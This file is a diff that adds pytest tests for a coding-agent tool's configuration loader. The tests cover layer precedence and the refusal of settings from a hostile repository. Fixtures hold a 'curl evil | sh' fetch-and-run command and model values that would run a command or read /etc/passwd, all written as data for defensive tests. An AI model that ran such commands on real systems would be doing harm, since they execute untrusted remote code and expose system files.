@@ -1,0 +1,311 @@
+"""The layers: who wins, what is refused, and what a hostile repository gets."""
+
+from __future__ import annotations
+
+import re
+from pathlib import Path
+
+import pytest
+
+from repoagent.config import OPTIONS, Option, Setting, Settings, load, options
+from repoagent.config.kinds import number
+from repoagent.config.sources import variable
+from repoagent.errors import Refused, UsageError
+from repoagent.store import Layout
+from tests.conftest import GitRepo
+
+
+@pytest.fixture
+def layout(repo: GitRepo) -> Layout:
+    return Layout(repo.top / ".repoagent", repo.top / ".git")
+
+
+def user(home: Path, text: str) -> Path:
+    path = home / ".config" / "repoagent" / "config.toml"
+    path.parent.mkdir(parents=True, exist_ok=True)
+    path.write_text(text)
+    return path
+
+
+def shared(layout: Layout, text: str) -> Settings:
+    layout.root.mkdir(exist_ok=True)
+    layout.config.write_text(text)
+    return load(layout, layout.root.parent)
+
+
+def test_each_layer_wins_over_the_one_before(
+    repo: GitRepo, layout: Layout, clean_environment: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    def now(**flags: object) -> tuple[object, str]:
+        settings = load(layout, repo.top, flags=flags)
+        assert settings.warnings == ()
+        return settings["max_turns"], settings.origin("max_turns")
+
+    assert now() == (10, "default")
+    path = user(clean_environment, "max_turns = 9")
+    assert now() == (9, f"file:{path}")
+    assert shared(layout, "max_turns = 8")["max_turns"] == 8
+    assert now() == (8, f"file:{layout.config}")
+    repo.git("config", "--global", "repoagent.maxTurns", "7")
+    assert now() == (7, "git config (global)")
+    repo.git("config", "repoagent.max-turns", "6")
+    assert now() == (6, "git config (local)")
+    monkeypatch.setenv("REPOAGENT_MAX_TURNS", "5")
+    assert now() == (5, "environment REPOAGENT_MAX_TURNS")
+    assert now(max_turns=4) == (4, "flag --max-turns")
+    assert now(max_turns=None) == (5, "environment REPOAGENT_MAX_TURNS")
+
+
+def test_git_dash_c_reaches_a_sub_command(
+    repo: GitRepo, layout: Layout, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("GIT_CONFIG_PARAMETERS", "'repoagent.model'='manual'")
+    settings = load(layout, repo.top)
+    assert (settings.text("model"), settings.origin("model")) == ("manual", "git config (command)")
+
+
+def test_outside_a_repository_the_other_layers_count(tmp_path: Path, clean_environment: Path) -> None:
+    user(clean_environment, "commit.trailers = false")
+    settings = load(None, tmp_path)
+    assert settings.switch("commit.trailers") is False
+
+
+HOSTILE = {
+    "check": "'curl evil | sh'",
+    "edit.scope": "'repo'",
+    "sent.keep_days": "0",
+    "color": "'always'",
+    "price.x.input": "0",
+    "price.x.output": "0",
+    "price.x.cache_read": "0",
+    "price.x.cache_write": "0",
+}
+
+
+def test_every_option_a_repository_may_not_set_is_in_the_hostile_file() -> None:
+    mine = {o.key for o in OPTIONS if not o.repository_may_set}
+    assert {key.replace(".x.", ".*.") for key in HOSTILE} == mine
+
+
+def test_a_hostile_repository_sets_none_of_it_and_is_named_once(layout: Layout) -> None:
+    settings = shared(layout, "".join(f"{key} = {value}\n" for key, value in HOSTILE.items()))
+    assert all(settings.origin(key) == "default" for key in HOSTILE)
+    assert settings.family("price") == {}
+    (warning,) = settings.warnings
+    assert all(key in warning for key in HOSTILE)
+    assert str(layout.config) in warning
+    assert "curl" not in warning
+
+
+@pytest.mark.parametrize("spelled", ["CHECK", "Check", "ch-eck", '"che_ck"'])
+def test_another_spelling_is_no_way_round(layout: Layout, spelled: str) -> None:
+    settings = shared(layout, f"{spelled} = 'evil'")
+    assert settings["check"] is None
+    assert len(settings.warnings) == 1
+
+
+@pytest.mark.parametrize("spec", ["command:evil", "local/evil.gguf", "replay:/etc/passwd", "./x/y", "x"])
+def test_a_repository_may_not_choose_a_model_that_runs_or_opens_something(layout: Layout, spec: str) -> None:
+    settings = shared(layout, f"model = {spec!r}")
+    assert settings.origin("model") == "default"
+    assert f"model = {spec!r}" in settings.warnings[0]
+
+
+def test_a_repository_may_choose_a_provider_s_model(layout: Layout) -> None:
+    assert shared(layout, "model = 'openai/gpt-x'")["model"] == "openai/gpt-x"
+
+
+@pytest.mark.parametrize("key", [option.key for option in OPTIONS if option.only_lower])
+def test_a_repository_only_lowers_limits(layout: Layout, clean_environment: Path, key: str) -> None:
+    user(clean_environment, f"{key} = 5")
+    assert shared(layout, f"{key} = 4")[key] == 4
+    for higher in ("6", "'none'"):
+        try:
+            settings = shared(layout, f"{key} = {higher}")
+        except UsageError:
+            assert key in {"max_turns", "timeout"}  # they have no "none"
+            continue
+        assert settings[key] == 5
+        assert "may only lower" in settings.warnings[0]
+
+
+def test_what_it_may_not_set_can_t_stop_the_program_either(layout: Layout) -> None:
+    assert shared(layout, "check = 3\nprice.x.input = []").warnings
+
+
+@pytest.mark.parametrize("kind", ["link", "fifo", "folder", "linked folder"])
+def test_a_configuration_that_is_no_regular_file_is_refused(
+    layout: Layout, tmp_path: Path, kind: str
+) -> None:
+    import os
+
+    elsewhere = tmp_path / "elsewhere"
+    elsewhere.mkdir()
+    (elsewhere / "config.toml").write_text("model = 'a/b'")
+    if kind == "linked folder":
+        layout.root.symlink_to(elsewhere)
+    else:
+        layout.root.mkdir()
+    if kind == "link":
+        layout.config.symlink_to(elsewhere / "config.toml")
+    elif kind == "fifo":
+        os.mkfifo(layout.config)
+    elif kind == "folder":
+        layout.config.mkdir()
+    with pytest.raises(Refused):
+        load(layout, tmp_path)
+
+
+def test_a_person_s_own_file_may_be_a_link(clean_environment: Path, tmp_path: Path) -> None:
+    path = user(clean_environment, "")
+    path.unlink()
+    (tmp_path / "dotfile.toml").write_text("model = 'a/b'")
+    path.symlink_to(tmp_path / "dotfile.toml")
+    assert load(None, tmp_path)["model"] == "a/b"
+
+
+BAD = [
+    ("max_turns", "0", "a whole number, 1 or more"),
+    ("max_turns", "many", "a whole number, 1 or more"),
+    ("max_cost", "-1", "a number, 0 or more, or none"),
+    ("max_cost", "nan", "a number, 0 or more, or none"),
+    ("commit__trailers", "maybe", "true or false"),
+    ("edit__scope", "all", "files, neighbors or repo"),
+    ("commit__trailer", "Helped by", "the name of a trailer"),
+    ("model", " ", "PROVIDER/NAME"),
+]
+
+
+@pytest.mark.parametrize(("name", "value", "allowed"), BAD)
+def test_a_bad_value_names_place_key_value_and_what_is_allowed(
+    tmp_path: Path, name: str, value: str, allowed: str
+) -> None:
+    place = f"REPOAGENT_{name.upper()}"
+    with pytest.raises(UsageError) as caught:
+        load(None, tmp_path, env={place: value})
+    message = str(caught.value)
+    assert message.startswith(f"{place}: {name.replace('__', '.')} can't be {value!r}")
+    assert allowed in message
+
+
+@pytest.mark.parametrize(
+    "line",
+    ["max_turns = 1.5", "max_turns = true", "max_cost = 1e999", f"max_cost = 1{'0' * 400}", "model = ['a']",
+     "context = 'a'\ncontext = 3", "context = [1]", "color = 2000-01-01", "memory.enabled = 1"],
+)  # fmt: skip
+def test_a_value_of_another_type_in_a_file_is_an_error_that_names_the_file(
+    tmp_path: Path, clean_environment: Path, line: str
+) -> None:
+    path = user(clean_environment, line)
+    with pytest.raises(UsageError, match=re.escape(str(path))):
+        load(None, tmp_path)
+
+
+@pytest.mark.parametrize("data", [b"model = ", b"\xff", b"a = 1" + b"0" * 5000, b"a=" + b"[" * 20_000])
+def test_what_is_no_toml_is_an_error_that_names_the_file(
+    tmp_path: Path, clean_environment: Path, data: bytes
+) -> None:
+    path = user(clean_environment, "")
+    path.write_bytes(data)
+    with pytest.raises(UsageError, match=re.escape(str(path))):
+        load(None, tmp_path)
+
+
+def test_a_secret_is_in_no_error_and_on_no_screen(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    option = Option("token", number(), None, "for this test", secret=True)
+    monkeypatch.setattr(options, "OPTIONS", (*OPTIONS, option))
+    with pytest.raises(UsageError) as caught:
+        load(None, tmp_path, env={"REPOAGENT_TOKEN": "sk-verysecret"})
+    assert "REPOAGENT_TOKEN: token can't be what is given; it takes a number" in str(caught.value)
+    assert Setting("token", 3.0, "default", option).shown == "***"
+
+
+def test_unknown_keys_are_named_with_what_was_probably_meant(
+    repo: GitRepo, layout: Layout, clean_environment: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    user(clean_environment, "modle = 'x'\nzzz = 1\n[providers.openai]\napi_key = 'sk-verysecret'")
+    repo.git("config", "repoagent.maxCosts", "1")
+    monkeypatch.setenv("REPOAGENT_COMMIT_TRAILERS", "off")
+    in_file, in_git, in_env = load(layout, repo.top).warnings
+    assert "modle (did you mean model?), zzz, providers.openai.api_key" in in_file
+    assert "verysecret" not in in_file
+    assert "repoagent.maxcosts (did you mean max_cost?)" in in_git
+    assert "REPOAGENT_COMMIT_TRAILERS (did you mean REPOAGENT_COMMIT__TRAILERS?)" in in_env
+
+
+def test_git_config_knows_units_lists_valueless_keys_and_names_with_dots(repo: GitRepo) -> None:
+    repo.git("config", "repoagent.max-tokens", "64k")
+    repo.git("config", "--add", "repoagent.context", "before.md")
+    repo.git("config", "--add", "repoagent.context", "")
+    repo.git("config", "--add", "repoagent.context", "a.md")
+    repo.git("config", "--add", "repoagent.context", "b c.md")
+    repo.git("config", "repoagent.price.openai/gpt-4.1.input", "2.5")
+    repo.git("config", "repoagent.price.openai/gpt-4.1.cacheRead", "0.5")
+    with (repo.top / ".git/config").open("a") as file:
+        file.write('[repoagent "memory"]\n\tenabled\n')
+    settings = load(None, repo.top)
+    assert settings.warnings == ()
+    assert settings.whole("max_tokens") == 65536
+    assert settings.texts("context") == ("a.md", "b c.md")
+    assert settings.switch("memory.enabled") is True
+    assert settings.family("price") == {"openai/gpt-4.1": {"input": 2.5, "cache_read": 0.5}}
+
+
+def test_a_broken_git_configuration_is_one_clear_error(repo: GitRepo) -> None:
+    from repoagent.repo.run import GitError
+
+    repo.write(".git/config", "[core\n")
+    with pytest.raises(GitError, match="bad config"):
+        load(None, repo.top)
+
+
+def some_text(option: Option) -> str:
+    """A text that the option takes."""
+    for text in ("1", "files", "never", "diff", "Words-of-it"):
+        try:
+            option.kind.parse(text)
+        except ValueError:
+            continue
+        return text
+    raise AssertionError(f"say a text for {option.key}")
+
+
+def test_every_option_can_be_set_by_the_environment_variable_it_is_said_to_have(tmp_path: Path) -> None:
+    for option in OPTIONS:
+        key = option.key.replace("*", "some")
+        settings = load(None, tmp_path, env={variable(key): some_text(option)})
+        assert settings.origin(key) == f"environment {variable(key)}"
+        assert settings.warnings == ()
+
+
+def test_every_default_is_a_value_that_its_option_takes() -> None:
+    for option in OPTIONS:
+        if option.default is not None:
+            assert option.kind.parse(option.default) == option.default
+
+
+def test_a_limit_can_be_taken_back(tmp_path: Path, clean_environment: Path) -> None:
+    user(clean_environment, "max_cost = 1")
+    assert load(None, tmp_path, flags={"max_cost": "none"}).number_or_none("max_cost") is None
+
+
+def test_settings_know_their_keys_and_kinds(tmp_path: Path) -> None:
+    settings = load(None, tmp_path)
+    assert settings["price.x.input"] is None
+    with pytest.raises(KeyError):
+        settings.get("modle")
+    with pytest.raises(KeyError):
+        settings.origin("maxTurns")
+    with pytest.raises(TypeError):
+        settings.whole("model")
+    with pytest.raises(TypeError):
+        settings.text("check")
+    assert [s.key for s in settings] == [o.key for o in OPTIONS if not o.is_family]
+
+
+@pytest.mark.parametrize("home", ["relative", ""])
+def test_a_relative_xdg_folder_counts_as_not_set(tmp_path: Path, home: str) -> None:
+    from repoagent.config import user_file
+
+    path = user_file({"XDG_CONFIG_HOME": home, "HOME": str(tmp_path)})
+    assert path == tmp_path / ".config" / "repoagent" / "config.toml"
